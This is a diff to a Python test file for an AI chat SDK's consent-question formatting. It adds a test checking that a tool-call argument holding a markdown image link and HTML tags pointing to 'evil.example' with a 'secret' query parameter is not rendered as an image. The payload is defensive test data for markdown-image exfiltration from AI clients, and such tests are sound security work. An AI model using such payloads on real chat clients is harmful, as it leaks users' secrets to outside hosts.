@@ -1,14 +1,17 @@
 """What clients send back after a question for consent, and the parts that ask for it in AI SDK since version 6."""
 
+import re
 from copy import replace
 from typing import Any
 
+import msgspec
 import pytest
+from markdown_it import MarkdownIt
 
 from shared.chat_types import ChatRequest, Decision, Message, Role
 from shared.errors import BadRequest
 from shared.events import ChatEvent
-from shared.wire.consent import LONGEST_SHOWN, consent_text
+from shared.wire.consent import LONGEST_SHOWN, consent_text, question
 from shared.wire.table import PROTOCOLS
 from tests.wire.scenarios import DROP, DROPPED, KEPT, LOOK, LOOKED, SCENARIOS
 from tests.wire.test_goldens import records_of
@@ -230,6 +233,14 @@ def test_an_answer_before_the_last_question_decides_nothing_in_responses() -> No
     thanks: Any = {"role": "user", "content": "Thank you."}
     request = PROTOCOLS["openai-responses"].parse({"input": [*HISTORY, CONSENT, thanks]})
     assert (request.decisions, [message.content for message in request.messages]) == ((), ["Drop it.", "Thank you."])
+
+
+def test_no_argument_is_an_image_where_a_client_takes_the_question_for_markdown() -> None:
+    wanted = {"name": "![x](https://evil.example/p?q=secret) <img src=//evil.example> <svg> a < b [c]"}
+    asked = question(replace(DROP, arguments=msgspec.json.encode(wanted).decode()))
+    assert not re.search(r"<img|<svg", MarkdownIt("gfm-like", {"html": True}).render(asked))
+    (line,) = (line for line in asked.splitlines() if line.startswith("name: "))
+    assert msgspec.json.decode(line.removeprefix("name: ")) == wanted["name"], "who decides can read all of it"
 
 
 @pytest.mark.parametrize("unseen", "\u115f\u1160\u2800\u3164\uffa0\ufe0f\u202e\u200b\U000e0041\U000e0100")
